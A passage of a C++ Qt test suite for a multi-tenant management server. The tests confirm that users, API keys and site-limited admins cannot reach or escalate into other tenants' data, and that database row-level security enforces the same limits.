        QCOMPARE(snapshot(owner, victim), before);
        // The audit log shows the actor's own refused attempts (with the ids they typed), never the victim's
        // entries.
        const auto audit = actor.get("/api/v1/audit?limit=500");
        if (audit.status != 403) {
            QCOMPARE(audit.status, 200);
            const std::string ownPartner = actor.get("/api/v1/auth/me").body["partner_id"];
            for (const auto& entry : audit.body["items"]) {
                QVERIFY2(entry["partner_id"] == ownPartner, (actorName + " saw " + entry.dump()).c_str());
                QVERIFY2(entry["org_id"] != victim.org, (actorName + " saw " + entry.dump()).c_str());
            }
        }
        for (const auto& [path, idsOf] : lists()) {
            for (const std::string& query : {std::string(), "?org=" + victim.org}) {
                const auto response = actor.get(path + query);
                if (response.status == 403)
                    continue; // may not list this kind at all
                QVERIFY2(response.status == 200 || response.status == 400,
                         (actorName + " " + path + query).c_str());
                for (const auto& id : idsOf(victim))
                    QVERIFY2(response.raw.find(id) == std::string::npos,
                             (actorName + " saw " + id + " in " + path + query).c_str());
            }
        }
    }

private Q_SLOTS:
    void initTestCase() {
        m_postgres = std::make_unique<test::TestPostgres>();
        m_server = std::make_unique<test::TestServer>(*m_postgres, "isolation");
        const auto one = m_server->bootstrap("admin1@iso.test", "Partner One", false);
        const auto two = m_server->bootstrap("admin2@iso.test", "Partner Two", true);
        m_admin1 = m_server->signIn(one.email, one.password, one.totpSecret);
        m_admin2 = m_server->signIn(two.email, two.password, two.totpSecret);
        m_a = makeTenant(*m_admin1, "Alpha");
        m_b = makeTenant(*m_admin1, "Bravo");
        m_c = makeTenant(*m_admin2, "Charlie");
        m_customRole2 =
            create(*m_admin2, "/api/v1/roles", {{"name", "auditor"}, {"permissions", {"audit:read"}}});

        m_actors["org-admin of Alpha"] =
            makeUser(*m_admin1, "orgadmin-alpha", {{"org_id", m_a.org}, {"role", "org-admin"}});
        m_actors["read-only of Alpha"] =
            makeUser(*m_admin1, "readonly-alpha", {{"org_id", m_a.org}, {"role", "read-only"}});
        m_actors["org-admin of Alpha site A only"] =
            makeUser(*m_admin1, "siteadmin-alpha",
                     {{"org_id", m_a.org}, {"site_ids", {m_a.siteA}}, {"role", "org-admin"}});
        m_actors["admin of partner two"] = m_server->signIn(two.email, two.password, two.totpSecret);
        // An API key is an actor too.
        const auto key = m_admin1->post(
            "/api/v1/api-keys", {{"name", "alpha admin key"}, {"org_id", m_a.org}, {"role", "org-admin"}});
        m_actors["org-admin API key of Alpha"] = m_server->client();
        m_actors["org-admin API key of Alpha"]->setBearer(key.body["key"]);
    }

    void everyTenantRouteHasAProbe() {
        server::Router router;
        server::registerAllRoutes(router);
        std::set<std::string> covered;
        for (const auto& probe : probes())
            covered.insert(probe.method + " " + probe.pattern);
        for (const auto& [path, ids] : lists())
            covered.insert("GET " + path);
        covered.insert("GET /api/v1/audit");
        // Routes about the caller themself, the partner as a whole, roles and operations have their own tests
        // below.
        const std::set<std::string> elsewhere = {
            "GET /api/v1/partners", "GET /api/v1/roles", "POST /api/v1/roles", "GET /api/v1/roles/{id}",
            "DELETE /api/v1/roles/{id}", "POST /api/v1/orgs", "GET /api/v1/audit/verify",
            "GET /api/v1/command-types", "GET /api/v1/me/device-filters", "POST /api/v1/me/device-filters",
            "DELETE /api/v1/me/device-filters/{id}", "POST /api/v1/file-blobs",
            // The caller's own partner's SMTP server (test_alerts).
            "GET /api/v1/notification-smtp", "PUT /api/v1/notification-smtp",
            "DELETE /api/v1/notification-smtp"};
        for (const auto& route : router.routes()) {
            const std::string key = route.method + " " + route.pattern;
            if (route.access == server::RouteAccess::Public || route.pattern.starts_with("/api/v1/auth/") ||
                !route.pattern.starts_with("/api/v1/") || elsewhere.contains(key))
                continue;
            QVERIFY2(covered.contains(key), ("no isolation probe for " + key).c_str());
        }
    }

    void fileCopiesAreTheirUploadersOwn() {
        // Asking for another tenant's file by its hash starts a copy of one's own: nothing of theirs is seen.
        const std::string key =
            m_admin2
                ->post("/api/v1/api-keys", {{"name", "copies"}, {"org_id", m_c.org}, {"role", "org-admin"}})
                .body["key"];
        auto stranger = m_server->client();
        stranger->setBearer(key);
        const auto asked = stranger->post("/api/v1/file-blobs", {{"sha256", m_a.blob}, {"size", 20}});
        QCOMPARE(asked.status, 201);
        QCOMPARE(asked.body["complete"], false);
        QVERIFY(asked.body["have"].empty());
        // Nor can anyone push the other's copy, even to a device of their own (one who never started a copy
        // of that file either).
        const std::string otherKey =
            m_admin2
                ->post("/api/v1/api-keys", {{"name", "copies 2"}, {"org_id", m_c.org}, {"role", "org-admin"}})
                .body["key"];
        auto fresh = m_server->client();
        fresh->setBearer(otherKey);
        const auto pushed = fresh->post(
            "/api/v1/file-pushes", {{"sha256", m_a.blob}, {"path", "/tmp/x"}, {"device_ids", {m_c.device}}});
        QCOMPARE(pushed.status, 409);
    }

    void organisationAdminCannotReachASiblingOrganisation() { attack("org-admin of Alpha", m_b, *m_admin1); }
    void organisationAdminCannotReachAnotherPartner() { attack("org-admin of Alpha", m_c, *m_admin2); }
    void apiKeyCannotReachASiblingOrganisation() { attack("org-admin API key of Alpha", m_b, *m_admin1); }
    void apiKeyCannotReachAnotherPartner() { attack("org-admin API key of Alpha", m_c, *m_admin2); }
    void readOnlyUserCannotReachOtherTenants() {
        attack("read-only of Alpha", m_b, *m_admin1);
        attack("read-only of Alpha", m_c, *m_admin2);
    }
    void partnerAdminCannotReachAnotherPartner() {
        attack("admin of partner two", m_a, *m_admin1);
        attack("admin of partner two", m_b, *m_admin1);
    }

    void siteLimitedAdminSeesOnlyItsSite() {
        auto& actor = *m_actors.at("org-admin of Alpha site A only");
        const auto sites = actor.get("/api/v1/sites");
        QCOMPARE(sites.body["items"].size(), std::size_t(1));
        QCOMPARE(sites.body["items"][0]["id"].get<std::string>(), m_a.siteA);
        QCOMPARE(actor.get("/api/v1/sites/" + m_a.siteB).status, 404);
        QCOMPARE(actor.patch("/api/v1/sites/" + m_a.siteB, {{"name", "x"}}).status, 404);
        QCOMPARE(actor.patch("/api/v1/sites/" + m_a.siteA, {{"name", "Alpha site A renamed"}}).status, 200);
        // It sees its organisation but may not change what belongs to the whole organisation.
        QCOMPARE(actor.get("/api/v1/orgs/" + m_a.org).status, 200);
        QCOMPARE(actor.patch("/api/v1/orgs/" + m_a.org, {{"name", "x"}}).status, 403);
        QCOMPARE(actor.post("/api/v1/sites", {{"org_id", m_a.org}, {"name", "new"}}).status, 403);
        QCOMPARE(actor.patch("/api/v1/groups/" + m_a.orgGroup, {{"name", "x"}}).status, 403);
        QCOMPARE(actor.post("/api/v1/enrollment-keys", {{"site_id", m_a.siteB}, {"expires_in_seconds", 600}})
                     .status,
                 404);
        QCOMPARE(actor.post("/api/v1/enrollment-keys", {{"site_id", m_a.siteA}, {"expires_in_seconds", 600}})
                     .status,
                 201);
        attack("org-admin of Alpha site A only", m_b, *m_admin1);
    }

    // Saved device filters are their owner's alone: another user of the same organisation, of another
    // partner, or an API key neither lists, replaces nor deletes them.
    void savedFiltersArePersonal() {
        const auto saved = m_admin1->post(
            "/api/v1/me/device-filters",
            {{"name", "Offline at Alpha"}, {"definition", {{"condition", "offline"}, {"org_id", m_a.org}}}});
        QCOMPARE(saved.status, 200);
        const std::string id = saved.body["id"];
        for (const char* name : {"org-admin of Alpha", "admin of partner two"}) {
            auto& actor = *m_actors.at(name);
            const auto listed = actor.get("/api/v1/me/device-filters");
            QCOMPARE(listed.status, 200);
            for (const auto& item : listed.body["items"])
                QVERIFY2(item["id"] != id, name);
            QCOMPARE(actor.del("/api/v1/me/device-filters/" + id).status, 404);
            // The same name is theirs to use: it does not touch the owner's filter.
            QCOMPARE(actor
                         .post("/api/v1/me/device-filters",
                               {{"name", "Offline at Alpha"}, {"definition", {{"search", "theirs"}}}})
                         .status,
                     200);
        }
        auto& key = *m_actors.at("org-admin API key of Alpha");
        QCOMPARE(key.get("/api/v1/me/device-filters").status, 403);
        QCOMPARE(key.del("/api/v1/me/device-filters/" + id).status, 403);
        const auto mine = m_admin1->get("/api/v1/me/device-filters");
        QCOMPARE(mine.body["items"].size(), std::size_t(1));
        QCOMPARE(mine.body["items"][0]["definition"],
                 nlohmann::json({{"condition", "offline"}, {"org_id", m_a.org}}));
        QCOMPARE(m_admin1->del("/api/v1/me/device-filters/" + id).status, 204);
        QCOMPARE(m_admin1->get("/api/v1/me/device-filters").body["items"].size(), std::size_t(0));
    }

    // Deleting a schedule needs the right everywhere it runs: one limited to site A cannot stop a schedule
    // that runs on the whole organisation's group.
    void aScheduleIsDeletedOnlyByWhoReachesAllItRunsOn() {
        const std::string wide = create(*m_admin1, "/api/v1/scripts/" + m_a.script + "/schedules",
                                        {{"group_id", m_a.orgGroup},
                                         {"run_at", "2099-01-01T03:00:00Z"},
                                         {"repeat", "weekly"},
                                         {"timezone", "UTC"}});
        auto& siteAdmin = *m_actors.at("org-admin of Alpha site A only");
        QCOMPARE(siteAdmin.del("/api/v1/script-schedules/" + wide).status, 403);
        QCOMPARE(m_admin1->del("/api/v1/script-schedules/" + wide).status, 204);
    }

    void nobodyGrantsMoreThanTheyHold() {
        auto& orgAdmin = *m_actors.at("org-admin of Alpha");
        // A partner-wide grant, or partner-admin anywhere, is beyond an organisation admin.
        QCOMPARE(
            orgAdmin
                .post("/api/v1/users",
                      {{"email", "esc1@iso.test"}, {"password", "escalation pass"}, {"role", "org-admin"}})
                .status,
            403);
        QCOMPARE(orgAdmin
                     .post("/api/v1/users", {{"email", "esc2@iso.test"},
                                             {"password", "escalation pass"},
                                             {"org_id", m_a.org},
                                             {"role", "partner-admin"}})
                     .status,
                 403);
        QCOMPARE(
            orgAdmin
                .post("/api/v1/api-keys", {{"name", "esc"}, {"org_id", m_a.org}, {"role", "partner-admin"}})
                .status,
            403);
        QCOMPARE(orgAdmin
                     .post("/api/v1/users", {{"email", "ok@iso.test"},
                                             {"password", "escalation pass"},
                                             {"org_id", m_a.org},
                                             {"role", "technician"}})
                     .status,
                 201);
        // An empty site list is no way round it: it still gives what lives at the organisation's level.
        QCOMPARE(orgAdmin
                     .post("/api/v1/users", {{"email", "esc4@iso.test"},
                                             {"password", "escalation pass"},
                                             {"org_id", m_a.org},
                                             {"site_ids", nlohmann::json::array()},
                                             {"role", "partner-admin"}})
                     .status,
                 403);
        // Another partner's custom role cannot be named.
        QCOMPARE(m_admin1
                     ->post("/api/v1/users", {{"email", "esc3@iso.test"},
                                              {"password", "escalation pass"},
                                              {"org_id", m_a.org},
                                              {"role", m_customRole2}})
                     .status,
                 400);
    }

    void anEmptySiteListMeansNoSites() {
        auto none =
            makeUser(*m_admin1, "nosites-alpha",
                     {{"org_id", m_a.org}, {"site_ids", nlohmann::json::array()}, {"role", "org-admin"}});
        QCOMPARE(none->get("/api/v1/auth/me").body["grants"][0]["site_ids"], nlohmann::json::array());
        QCOMPARE(none->get("/api/v1/sites").body["items"].size(), std::size_t(0));
        QCOMPARE(none->get("/api/v1/devices").body["items"].size(), std::size_t(0));
        QCOMPARE(none->get("/api/v1/sites/" + m_a.siteA).status, 404);
        QCOMPARE(none->get("/api/v1/devices/" + m_a.device).status, 404);
        QCOMPARE(none->patch("/api/v1/sites/" + m_a.siteA, {{"name", "x"}}).status, 404);
        QCOMPARE(none->post("/api/v1/enrollment-keys", {{"site_id", m_a.siteA}, {"expires_in_seconds", 600}})
                     .status,
                 404);
    }

    void nobodyManagesSomeoneWhoOutranksThem() {
        auto& orgAdmin = *m_actors.at("org-admin of Alpha");
        // A user of Alpha who also holds a permission no organisation admin has.
        const std::string role = create(*m_admin1, "/api/v1/roles",
                                        {{"name", "partner-editor"}, {"permissions", {"partner:update"}}});
        const std::string senior = create(*m_admin1, "/api/v1/users",
                                          {{"email", "senior-alpha@iso.test"},
                                           {"password", "isolation password"},
                                           {"org_id", m_a.org},
                                           {"role", "technician"}});
        QCOMPARE(m_admin1->post("/api/v1/users/" + senior + "/grants", {{"org_id", m_a.org}, {"role", role}})
                     .status,
                 201);
        for (const auto& change :
             {nlohmann::json{{"password", "a takeover password"}}, nlohmann::json{{"disabled", true}},
              nlohmann::json{{"display_name", "x"}}}) {
            const auto refused = orgAdmin.patch("/api/v1/users/" + senior, change);
            QVERIFY2(refused.status == 403, refused.raw.c_str());
        }
        QCOMPARE(orgAdmin.del("/api/v1/users/" + senior).status, 403);
        QVERIFY(m_server->signIn("senior-alpha@iso.test", "isolation password") != nullptr);
        // An equal or lesser user of the same organisation is theirs to manage.
        const std::string junior = create(*m_admin1, "/api/v1/users",
                                          {{"email", "junior-alpha@iso.test"},
                                           {"password", "isolation password"},
                                           {"org_id", m_a.org},
                                           {"role", "technician"}});
        QCOMPARE(orgAdmin.patch("/api/v1/users/" + junior, {{"disabled", true}}).status, 200);
        QCOMPARE(orgAdmin.del("/api/v1/users/" + junior).status, 204);
    }

    void rolesAndPartnerStayWithinTheirPartner() {
        QCOMPARE(m_admin1->get("/api/v1/roles/" + m_customRole2).status, 404);
        QCOMPARE(m_admin1->del("/api/v1/roles/" + m_customRole2).status, 404);
        QVERIFY(m_admin1->get("/api/v1/roles").raw.find(m_customRole2) == std::string::npos);
        QVERIFY(m_admin2->get("/api/v1/roles").raw.find(m_customRole2) != std::string::npos);
        QCOMPARE(m_admin1->get("/api/v1/partners").body["items"][0]["name"].get<std::string>(),
                 std::string("Partner One"));
        QCOMPARE(m_admin2->get("/api/v1/partners").body["items"][0]["name"].get<std::string>(),
                 std::string("Partner Two"));
        QCOMPARE(m_actors.at("org-admin of Alpha")->get("/api/v1/partners").status, 403);
        QCOMPARE(m_actors.at("org-admin of Alpha")
                     ->patch("/api/v1/partners/" + m_a.partner, {{"require_mfa", true}})
                     .status,
                 403);
        QCOMPARE(m_actors.at("org-admin of Alpha")->post("/api/v1/orgs", {{"name", "new org"}}).status, 403);
        QCOMPARE(m_actors.at("org-admin of Alpha")->get("/api/v1/audit/verify").status, 403);
    }

    void alertSummaryCountsOnlyWhatTheCallerMaySee() {
        // Each tenant has two active warnings (sites A and B): an organisation sees its own, a partner its
        // organisations', a user limited to site A that site's..
        const auto warnings = [this](const std::string& actor) {
            auto& client = actor == "admin of partner one" ? *m_admin1 : *m_actors.at(actor);
            return client.get("/api/v1/alerts/summary").body["active"]["warning"].get<int>();
        };
        QCOMPARE(warnings("read-only of Alpha"), 2);
        QCOMPARE(warnings("admin of partner one"), 4);
        QCOMPARE(warnings("admin of partner two"), 2);
        QCOMPARE(warnings("org-admin of Alpha site A only"), 1);
        // The site-limited administrator lists, reads and acknowledges only site A's.
        auto& siteA = *m_actors.at("org-admin of Alpha site A only");
        const auto listed = siteA.get("/api/v1/alerts?org=" + m_a.org).body["items"];
        QCOMPARE(listed.size(), std::size_t{1});
        QCOMPARE(listed[0]["site_id"], m_a.siteA);
        const auto all = m_admin1->get("/api/v1/alerts?org=" + m_a.org).body["items"];
        QCOMPARE(all.size(), std::size_t{2});
        for (const auto& alert : all)
            if (alert["site_id"] == m_a.siteB) {
                const std::string id = alert["id"];
                QCOMPARE(siteA.get("/api/v1/alerts/" + id).status, 404);
                QCOMPARE(siteA.post("/api/v1/alerts/" + id + "/acknowledge", nlohmann::json::object()).status,
                         404);
                QCOMPARE(siteA.post("/api/v1/alerts/" + id + "/resolve", nlohmann::json::object()).status,
                         404);
            }
    }

    void readOnlyRoleCannotMutateAnythingInItsOwnOrganisation() {
        auto& actor = *m_actors.at("read-only of Alpha");
        const std::string before = snapshot(*m_admin1, m_a);
        for (const auto& probe : probes()) {
            if (probe.method == "GET")
                continue;
            const std::string path = probe.path(m_a);
            const nlohmann::json body = probe.body(m_a);
            const auto response =
                body.is_null() ? actor.request(probe.method, path) : actor.request(probe.method, path, body);
            QVERIFY2(response.status == 403, (probe.method + " " + path + " -> " + response.raw).c_str());
        }
        QCOMPARE(actor.post("/api/v1/orgs", {{"name", "nope"}}).status, 403);
        QCOMPARE(actor.post("/api/v1/roles", {{"name", "nope"}, {"permissions", {"orgs:read"}}}).status, 403);
        QCOMPARE(actor.patch("/api/v1/partners/" + m_a.partner, {{"name", "nope"}}).status, 403);
        QCOMPARE(snapshot(*m_admin1, m_a), before);
        // ...while reading works.
        QCOMPARE(actor.get("/api/v1/orgs/" + m_a.org).status, 200);
        QCOMPARE(actor.get("/api/v1/sites?org=" + m_a.org).body["items"].size(), std::size_t(2));
    }

    void devicesJoinOnlyGroupsOfTheirOwnOrganisation() {
        // The victim's group id is known to the attacker: it must not become a way in, nor a way to learn of
        // it.
        for (const std::string& group : {m_b.orgGroup, m_b.siteGroup, m_c.orgGroup}) {
            const auto response = m_admin1->patch("/api/v1/devices/" + m_a.device, {{"group_id", group}});
            QVERIFY2(response.status == 404, response.raw.c_str());
        }
        QCOMPARE(m_admin2->get("/api/v1/devices?group=" + m_a.orgGroup).body["items"].size(), std::size_t(0));
        QCOMPARE(m_admin1->patch("/api/v1/devices/" + m_a.device, {{"add_tags", {"shared-name"}}}).status,
                 200);
        QCOMPARE(m_admin2->get("/api/v1/devices?tag=shared-name").body["items"].size(), std::size_t(0));
        QCOMPARE(m_admin1->get("/api/v1/devices?tag=shared-name").body["items"].size(), std::size_t(1));
    }

    void scriptsRunOnlyWhereTheyBelong() {
        auto& alphaAdmin = *m_actors.at("org-admin of Alpha");
        // Alpha's own script cannot be aimed at another organisation's device, nor at another partner's.
        for (const std::string& device : {m_b.device, m_c.device}) {
            const auto response =
                alphaAdmin.post("/api/v1/scripts/" + m_a.script + "/runs", {{"device_ids", {device}}});
            QVERIFY2(response.status == 404, response.raw.c_str());
        }
        QCOMPARE(alphaAdmin.post("/api/v1/scripts/" + m_a.script + "/runs", {{"site_id", m_b.siteA}}).status,
                 404);
        QCOMPARE(
            alphaAdmin.post("/api/v1/scripts/" + m_a.script + "/runs", {{"group_id", m_b.orgGroup}}).status,
            404);
        // Even the partner's admin, who sees both, cannot run one organisation's private script on another's
        // device: it is refused for that device with the reason.
        const auto crossed =
            m_admin1->post("/api/v1/scripts/" + m_a.script + "/runs", {{"device_ids", {m_b.device}}});
        QCOMPARE(crossed.status, 409);
        QVERIFY(crossed.raw.find("belongs to another organisation") != std::string::npos);
        // The partner-wide library is shared within the partner and invisible to every other partner.
        const std::string shared =
            create(*m_admin1, "/api/v1/scripts",
                   {{"name", "Partner one shared"}, {"language", "sh"}, {"content", "id"}});
        QCOMPARE(alphaAdmin.get("/api/v1/scripts/" + shared).status, 200);
        QCOMPARE(alphaAdmin.patch("/api/v1/scripts/" + shared, {{"content", "x"}}).status, 403);
        QCOMPARE(alphaAdmin.post("/api/v1/scripts", {{"name", "mine"}, {"language", "sh"}, {"content", "x"}})
                     .status,
                 403);
        QCOMPARE(m_admin2->get("/api/v1/scripts/" + shared).status, 404);
        QCOMPARE(m_admin2->post("/api/v1/scripts/" + shared + "/runs", {{"device_ids", {m_c.device}}}).status,
                 404);
        QVERIFY(m_admin2->get("/api/v1/scripts").raw.find(shared) == std::string::npos);
        QCOMPARE(
            alphaAdmin.post("/api/v1/scripts/" + shared + "/runs", {{"device_ids", {m_a.device}}}).status,
            201);
    }

    void rowLevelSecurityIsASecondWall() {
        // Straight SQL as the server's own role, with no WHERE clause at all: only the scope's rows come
        // back.
        pqxx::connection connection(m_server->databaseUrl().toStdString());
        {
            pqxx::work bare(connection);
            QCOMPARE(bare.exec1("SELECT count(*) FROM organizations")[0].as<int>(), 0);
            QCOMPARE(bare.exec1("SELECT count(*) FROM users")[0].as<int>(), 0);
            QCOMPARE(bare.exec1("SELECT count(*) FROM audit_log")[0].as<int>(), 0);
        }
        const std::string partner = m_a.partner;
        server::AccessScope alpha(partner);
        alpha.grantOrg(m_a.org);
        {
            server::ScopedTransaction tx(connection, alpha);
            const auto orgs = tx.sql().exec("SELECT id FROM organizations");
            QCOMPARE(orgs.size(), pqxx::result::size_type(1));
            QCOMPARE(orgs[0][0].as<std::string>(), m_a.org);
            QCOMPARE(tx.sql().exec1("SELECT count(*) FROM sites")[0].as<int>(), 2);
            QCOMPARE(tx.sql()
                         .exec1("SELECT count(*) FROM api_keys WHERE org_id <> '" + m_a.org + "'")[0]
                         .as<int>(),
                     0);
            QCOMPARE(tx.sql().exec1("SELECT count(*) FROM auth_sessions")[0].as<int>(), 0);
        }
        {
            server::ScopedTransaction tx(connection, alpha);
            QVERIFY_THROWS_EXCEPTION(
                pqxx::sql_error,
                tx.sql().exec_params("INSERT INTO sites (partner_id, org_id, name) VALUES ($1, $2, 'x')",
                                     partner, m_b.org));
        }
        {
            server::ScopedTransaction tx(connection, alpha);
            QCOMPARE(tx.sql()
                         .exec("UPDATE organizations SET name = 'x' WHERE id = '" + m_c.org + "'")
                         .affected_rows(),
                     0ULL);
        }
    }

    void cleanupTestCase() {
        m_actors.clear();
        m_admin1.reset();
        m_admin2.reset();
        m_server.reset();
        m_postgres.reset();
    }
};

QTEST_GUILESS_MAIN(TestTenantIsolation)
#include "TestTenantIsolation.moc"
